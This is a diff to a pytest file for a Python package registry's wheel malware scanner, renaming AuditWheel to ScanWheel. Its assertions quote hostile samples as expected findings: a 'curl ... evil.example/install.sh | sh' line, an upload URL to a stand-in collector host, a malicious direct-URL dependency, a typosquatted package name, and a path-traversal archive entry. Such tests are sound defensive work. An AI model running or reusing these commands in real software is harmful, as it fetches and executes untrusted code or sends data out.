@@ -8,8 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from pyregistry_application.security.audit import AuditWheel
 from pyregistry_application.security.findings import Severity
+from pyregistry_application.security.wheel_scan import ScanWheel
 from pyregistry_domain.errors import InvalidDistribution
 from pyregistry_infrastructure.scanning.ast_checks import AstScanner, scan_python_source
 from pyregistry_infrastructure.scanning.foxguard import FoxguardScanner
@@ -26,9 +26,9 @@ from tests.support.dists import build_wheel
 from tests.support.malicious import EICAR, bad_wheels, clean_wheel, elf_with_url
 
 
-def _audit(yara_dir: Path | None = None) -> AuditWheel:
+def _audit(yara_dir: Path | None = None) -> ScanWheel:
     scanners = [HeuristicScanner(), AstScanner(), FoxguardScanner(), YaraScanner(yara_dir or supplied_rules_dir())]
-    return AuditWheel(SafeWheelUnpacker(), scanners)
+    return ScanWheel(SafeWheelUnpacker(), scanners)
 
 
 @pytest.fixture(scope="module")
@@ -41,7 +41,7 @@ def wheels(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     "rule", ["PTH-EXECUTES-CODE", "PY-SHELL-NETWORK", "BIN-NETWORK-STRING", "yara/pyregistry_eicar_test_file"]
 )
 def test_known_bad_wheels_are_flagged(wheels: dict[str, Path], rule: str) -> None:
-    report = _audit().audit_file("bad", wheels[rule])
+    report = _audit().scan_file("bad", wheels[rule])
     assert report.scanner_errors == {}
     flagged = [f for f in report.findings if f.rule_id == rule]
     assert flagged, [f.rule_id for f in report.findings]
@@ -51,15 +51,15 @@ def test_known_bad_wheels_are_flagged(wheels: dict[str, Path], rule: str) -> Non
 
 
 def test_findings_carry_location_and_evidence(wheels: dict[str, Path]) -> None:
-    shell = _audit().audit_file("shell-hook", wheels["PY-SHELL-NETWORK"])
+    shell = _audit().scan_file("shell-hook", wheels["PY-SHELL-NETWORK"])
     finding = next(f for f in shell.findings if f.rule_id == "PY-SHELL-NETWORK")
     assert (finding.file, finding.line) == ("shell_hook/__init__.py", 3)
     assert "curl -s https://evil.example/install.sh | sh" in finding.evidence
-    elf = _audit().audit_file("elf-payload", wheels["BIN-NETWORK-STRING"])
+    elf = _audit().scan_file("elf-payload", wheels["BIN-NETWORK-STRING"])
     finding = next(f for f in elf.findings if f.rule_id == "BIN-NETWORK-STRING")
     assert finding.offset == elf_with_url().index(b"http://")
     assert finding.evidence == "http://collector.example.net/upload"
-    pth = _audit().audit_file("pth-hook", wheels["PTH-EXECUTES-CODE"])
+    pth = _audit().scan_file("pth-hook", wheels["PTH-EXECUTES-CODE"])
     assert {"PTH-EXECUTES-CODE", "PY-EXEC-DECODED", "yara/pyregistry_python_exec_encoded_payload"} <= {
         f.rule_id for f in pth.findings
     }
@@ -67,7 +67,7 @@ def test_findings_carry_location_and_evidence(wheels: dict[str, Path]) -> None:
 
 
 def test_clean_wheel_has_no_findings(wheels: dict[str, Path]) -> None:
-    report = _audit().audit_file("tidy-greeter", wheels["clean"])
+    report = _audit().scan_file("tidy-greeter", wheels["clean"])
     assert report.findings == []
     assert report.highest() is None
     assert report.scanners == ["heuristics", "ast", "foxguard", "yara"]
@@ -79,7 +79,7 @@ def test_foxguard_findings_are_merged(tmp_path: Path) -> None:
         'def run(cmd):\n    os.system("ls " + cmd)\n'
     )
     wheel = build_wheel(tmp_path, "leaky", "1.0.0", module_source=source)
-    report = _audit().audit_file("leaky", wheel)
+    report = _audit().scan_file("leaky", wheel)
     fox = {f.rule_id for f in report.findings if f.scanner == "foxguard"}
     assert "foxguard/py/no-command-injection" in fox
     assert any(rule.startswith("foxguard/secret/") or rule == "foxguard/py/no-hardcoded-secret" for rule in fox)
@@ -111,7 +111,7 @@ def test_metadata_direct_url_and_near_miss_dependencies(tmp_path: Path) -> None:
         "Requires-Dist: reqeusts>=2\nRequires-Dist: helper @ https://evil.example/helper.whl\nRequires-Dist: numpy\n"
     )
     wheel = build_wheel(tmp_path, "meta-check", "1.0.0", description=extra)
-    report = _audit().audit_file("meta-check", wheel)
+    report = _audit().scan_file("meta-check", wheel)
     rules = {(f.rule_id, f.evidence) for f in report.findings}
     assert ("META-DEPENDENCY-NEAR-MISS", "reqeusts>=2") in rules
     assert ("META-DIRECT-URL-DEPENDENCY", "helper @ https://evil.example/helper.whl") in rules
@@ -170,7 +170,7 @@ def test_entry_point_shadowing_and_shell_script(tmp_path: Path) -> None:
         "odd-1.0.0.dist-info/entry_points.txt": b"[console_scripts]\npip = odd:main\nodd = odd:main\n",
         "odd/install.sh": b"#!/bin/sh\necho hi\n",
     }
-    report = _audit().audit_file("odd", build_wheel(tmp_path, "odd", "1.0.0", extra_files=files))
+    report = _audit().scan_file("odd", build_wheel(tmp_path, "odd", "1.0.0", extra_files=files))
     rules = {(f.rule_id, f.file) for f in report.findings}
     assert ("ENTRY-POINT-SHADOWS-COMMAND", "odd-1.0.0.dist-info/entry_points.txt") in rules
     assert ("FILE-SHELL-SCRIPT", "odd/install.sh") in rules
@@ -181,7 +181,7 @@ def test_unsafe_wheel_is_refused_before_scanning(tmp_path: Path) -> None:
     with zipfile.ZipFile(wheel, "w") as archive:
         archive.writestr("../outside.py", b"print('x')\n")
     with pytest.raises(InvalidDistribution, match="traversal"):
-        _audit().audit_file("evil", wheel)
+        _audit().scan_file("evil", wheel)
     assert not (tmp_path / "outside.py").exists()
 
 
@@ -191,7 +191,7 @@ def test_unreadable_rules_dir_falls_back_to_supplied_rules(tmp_path: Path) -> No
     (tmp_path / "mine.yar").write_text('rule mine { strings: $a = "pyregistry-canary" condition: $a }\n')
     assert resolve_rules_dir(tmp_path) == tmp_path
     wheel = build_wheel(tmp_path / "w", "canary", "1.0.0", module_source="X = 'pyregistry-canary'\n")
-    report = _audit(tmp_path).audit_file("canary", wheel)
+    report = _audit(tmp_path).scan_file("canary", wheel)
     assert [f.rule_id for f in report.findings if f.scanner == "yara"] == ["yara/mine"]
 
 
@@ -219,6 +219,6 @@ def test_signature_base_rules_compile_and_scan(tmp_path: Path) -> None:
     assert len(compiled.skipped) < compiled.files // 10, compiled.skipped[:5]
     print(f"signature-base: {compiled.files} files compiled in {elapsed:.1f}s, {len(compiled.skipped)} skipped")
     wheel = build_wheel(tmp_path, "sig-check", "1.0.0", extra_files={"sig_check/eicar.com": EICAR})
-    report = _audit(directory).audit_file("sig-check", wheel)
+    report = _audit(directory).scan_file("sig-check", wheel)
     assert report.scanner_errors == {}
     assert any(f.scanner == "yara" and f.file == "sig_check/eicar.com" for f in report.findings), report.findings
